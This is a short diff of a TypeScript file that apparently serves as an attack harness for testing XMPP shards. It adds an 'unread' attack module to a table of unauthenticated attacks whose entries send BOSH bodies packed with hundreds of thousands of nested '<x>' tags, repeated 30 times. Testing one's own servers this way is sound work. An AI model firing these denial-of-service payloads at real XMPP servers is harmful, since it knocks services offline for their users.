@@ -1,6 +1,7 @@
 import { randomUUID } from 'node:crypto';
 import { connect } from 'node:net';
 import { DOMAIN, Participant, send } from './participant.js';
+import { unread } from './unread.js';
 
 const HTTPBIND = 'http://jabber.org/protocol/httpbind';
 const BODY = `<body xmlns='${HTTPBIND}' rid='1' to='${DOMAIN}' ver='1.6' wait='60' hold='1'`;
@@ -61,6 +62,7 @@ const message = (to: string, inside: string) =>
 
 /** Attacks on a shard that need no account. Each lasts until this process ends. */
 const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
+  ...unread({ address: ATTACKER, room: ROOM, report }),
   'nested BOSH bodies of 950 KB': () => again(30, () => bosh(`${BODY}>${'<x>'.repeat(316_000)}`)),
   'nested BOSH bodies of 60 KB': () => again(30, () => bosh(`${BODY}>${'<x>'.repeat(20_000)}`)),
   'nested BOSH bodies of 9 KB': () => again(30, () => bosh(`${BODY}>${'<x>'.repeat(3_000)}`)),
